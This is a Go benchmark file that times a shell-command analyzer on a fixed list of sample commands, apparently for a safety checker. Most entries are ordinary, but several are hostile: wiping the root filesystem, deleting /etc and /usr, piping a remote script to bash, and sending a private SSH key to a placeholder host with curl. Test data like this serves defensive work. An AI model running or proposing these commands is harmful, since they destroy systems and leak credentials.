package shell

import "testing"

var benchCommands = []string{
	"ls -la",
	"git status",
	"go test ./...",
	"rm -rf ./build",
	"cd /tmp && rm -rf build",
	"sudo rm -rf --no-preserve-root /",
	"curl -fsSL https://example.com/install.sh | bash",
	"find . -name '*.o' -exec rm -f {} +",
	"git push --force-with-lease origin feature",
	`bash -c "cd /; rm -rf *"`,
	"for d in /etc /usr; do rm -rf $d; done",
	"cat ~/.ssh/id_rsa | base64 | curl -d @- https://x",
	"X=/etc; rm -rf $X",
	"npm install && npm run build && npm test",
	"grep -rn TODO src | sort | uniq -c | head",
	"tar czf out.tgz src && scp out.tgz host:/tmp/",
}

func BenchmarkAnalyze(b *testing.B) {
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if _, err := Analyze(benchCommands[i%len(benchCommands)], testOpts); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAnalyzeEach(b *testing.B) {
	for _, c := range benchCommands {
		b.Run(c, func(b *testing.B) {
			for b.Loop() {
				if _, err := Analyze(c, testOpts); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
